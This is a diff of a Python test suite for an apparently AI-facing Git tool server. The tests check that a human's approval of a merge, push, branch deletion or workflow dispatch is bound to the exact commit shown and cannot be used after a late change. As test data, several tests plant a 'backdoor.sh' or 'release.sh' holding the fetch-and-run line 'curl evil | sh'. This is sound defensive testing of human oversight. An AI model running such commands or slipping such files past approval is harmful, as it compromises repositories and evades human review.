@@ -99,9 +99,7 @@ async def test_backdoor_pushed_after_approval_is_not_merged(approval_server, for
             base_before = branch_head(forge, pr_repo, PROTECTED)
 
             payload = (await call_tool(model, "merge_pull_request", merge))[1]
-            visit = await visit_approval_page(
-                approval_link(payload), "approve", basic_token=TOKEN_A
-            )
+            visit = await visit_approval_page(approval_link(payload), "approve", token=TOKEN_A)
             assert visit.outcome == "approved"
             assert approved_head and approved_head in visit.text  # the head the human saw
             assert "feature.txt" in visit.text and "Add the feature" in visit.text
@@ -127,7 +125,7 @@ async def test_backdoor_pushed_after_approval_is_not_merged(approval_server, for
 
             # the stale approval is spent: the next call asks the human again
             payload = (await call_tool(model, "merge_pull_request", merge))[1]
-            again = await visit_approval_page(approval_link(payload), None, basic_token=TOKEN_A)
+            again = await visit_approval_page(approval_link(payload), None, token=TOKEN_A)
             assert backdoor in again.text and "backdoor.sh" in again.text
 
     assert requests_matching(forge, "PUT", f"/pulls/{number}/merge") == []
@@ -147,11 +145,11 @@ async def test_head_moving_while_the_human_decides_meets_githubs_precondition(
 
     async def human(message: str, response_type: Any, params: Any, context: Any) -> Any:
         async def look_then_approve() -> Any:
-            await visit_approval_page(params.url, None, basic_token=TOKEN_A)
+            await visit_approval_page(params.url, None, token=TOKEN_A)
             pushed.append(
                 forge_put_file(forge, pr_repo, TOPIC, "backdoor.sh", "evil\n", "sneak in")
             )
-            return await visit_approval_page(params.url, "approve", basic_token=TOKEN_A)
+            return await visit_approval_page(params.url, "approve", token=TOKEN_A)
 
         clicks.append(asyncio.create_task(look_then_approve()))
         return ElicitResult(action="accept")
@@ -179,9 +177,7 @@ async def test_deleting_a_protected_branch_is_bound_to_its_head(approval_server,
         async with http_client(served.url, TOKEN_A) as model:
             args = {"full_name": pr_repo, "branch": PROTECTED}
             payload = (await call_tool(model, "delete_remote_branch", args))[1]
-            visit = await visit_approval_page(
-                approval_link(payload), "approve", basic_token=TOKEN_A
-            )
+            visit = await visit_approval_page(approval_link(payload), "approve", token=TOKEN_A)
             assert visit.outcome == "approved"
             moved = forge_put_file(forge, pr_repo, PROTECTED, "late.txt", "late\n", "Late fix")
             forge.clear_requests()
@@ -221,9 +217,7 @@ async def test_retargeting_onto_a_protected_base_is_bound_to_the_head(
             assert not is_error, pr
             args = {"full_name": pr_repo, "number": pr["number"], "base": PROTECTED}
             payload = (await call_tool(model, "update_pull_request", args))[1]
-            visit = await visit_approval_page(
-                approval_link(payload), "approve", basic_token=TOKEN_A
-            )
+            visit = await visit_approval_page(approval_link(payload), "approve", token=TOKEN_A)
             assert visit.outcome == "approved"
             late = forge_put_file(forge, pr_repo, TOPIC, "backdoor.sh", "evil\n", "sneak")
             is_error, refused = await call_tool(model, "update_pull_request", args)
@@ -269,7 +263,7 @@ async def test_a_stack_run_is_bound_to_the_plan_the_human_saw(approval_server, f
         async with http_client(served.url, TOKEN_A) as model:
             payload = (await call_tool(model, "manage_stacked_prs", args))[1]
             link = approval_link(payload)
-            visit = await visit_approval_page(link, "approve", basic_token=TOKEN_A)
+            visit = await visit_approval_page(link, "approve", token=TOKEN_A)
             assert visit.outcome == "approved" and "git rebase" in visit.text  # the plan
             late = forge_put_file(forge, repo, "topic-a", "evil.sh", "evil\n", "late base work")
             forge.clear_requests()
@@ -303,9 +297,7 @@ async def test_a_workspace_push_is_bound_to_the_approved_commit(
             work = Path(clone["path"])
             work.joinpath("NOTES.md").write_text("one\ntwo\n")
             payload = (await call_tool(model, "commit_workspace", args))[1]
-            visit = await visit_approval_page(
-                approval_link(payload), "approve", basic_token=TOKEN_A
-            )
+            visit = await visit_approval_page(approval_link(payload), "approve", token=TOKEN_A)
             assert visit.outcome == "approved" and "+two" in visit.text  # the diff shown
             is_error, pushed = await call_tool(model, "commit_workspace", args)
             assert not is_error, pushed
@@ -314,9 +306,7 @@ async def test_a_workspace_push_is_bound_to_the_approved_commit(
 
             work.joinpath("NOTES.md").write_text("one\ntwo\nthree\n")
             payload = (await call_tool(model, "commit_workspace", args))[1]
-            visit = await visit_approval_page(
-                approval_link(payload), "approve", basic_token=TOKEN_A
-            )
+            visit = await visit_approval_page(approval_link(payload), "approve", token=TOKEN_A)
             assert visit.outcome == "approved" and "+three" in visit.text
             work.joinpath("backdoor.sh").write_text("curl evil | sh\n")
             forge.clear_requests()
@@ -345,9 +335,7 @@ async def test_a_section_edit_is_bound_to_the_head_its_lines_were_read_at(
     with approval_server() as served:
         async with http_client(served.url, TOKEN_A) as model:
             payload = (await call_tool(model, "update_file_sections_and_commit", edit))[1]
-            visit = await visit_approval_page(
-                approval_link(payload), "approve", basic_token=TOKEN_A
-            )
+            visit = await visit_approval_page(approval_link(payload), "approve", token=TOKEN_A)
             assert visit.outcome == "approved" and "-two" in visit.text and "+TWO" in visit.text
             inserted = forge_put_file(
                 forge, repo, "main", "README.md", "KEEP ME\none\ntwo\nthree\n", "Header"
@@ -366,9 +354,7 @@ async def test_a_dispatch_on_a_protected_ref_is_bound_to_its_head(approval_serve
     with approval_server() as served:
         async with http_client(served.url, TOKEN_A) as model:
             payload = (await call_tool(model, "trigger_workflow_dispatch", args))[1]
-            visit = await visit_approval_page(
-                approval_link(payload), "approve", basic_token=TOKEN_A
-            )
+            visit = await visit_approval_page(approval_link(payload), "approve", token=TOKEN_A)
             assert visit.outcome == "approved"
             assert branch_head(forge, repo, "main") in visit.text
             late = forge_put_file(forge, repo, "main", "release.sh", "curl evil\n", "Late")
@@ -395,9 +381,7 @@ async def test_a_merge_gated_by_the_cross_visibility_guard_is_bound_too(approval
             read = {"full_name": vault, "path": "secrets.env"}
             assert not (await call_tool(model, "get_file_contents", read))[0]
             payload = (await call_tool(model, "merge_pull_request", merge))[1]
-            visit = await visit_approval_page(
-                approval_link(payload), "approve", basic_token=TOKEN_A
-            )
+            visit = await visit_approval_page(approval_link(payload), "approve", token=TOKEN_A)
             assert visit.outcome == "approved" and vault in visit.text
             late = forge_put_file(forge, site, TOPIC, "backdoor.sh", "evil\n", "sneak")
             is_error, refused = await call_tool(model, "merge_pull_request", merge)
@@ -423,9 +407,9 @@ async def test_a_workspace_change_while_the_human_decides_is_not_pushed(
 
     async def human(message: str, response_type: Any, params: Any, context: Any) -> Any:
         async def look_then_approve() -> Any:
-            await visit_approval_page(params.url, None, basic_token=TOKEN_A)
+            await visit_approval_page(params.url, None, token=TOKEN_A)
             work[0].joinpath("backdoor.sh").write_text("curl evil | sh\n")
-            return await visit_approval_page(params.url, "approve", basic_token=TOKEN_A)
+            return await visit_approval_page(params.url, "approve", token=TOKEN_A)
 
         clicks.append(asyncio.create_task(look_then_approve()))
         return ElicitResult(action="accept")
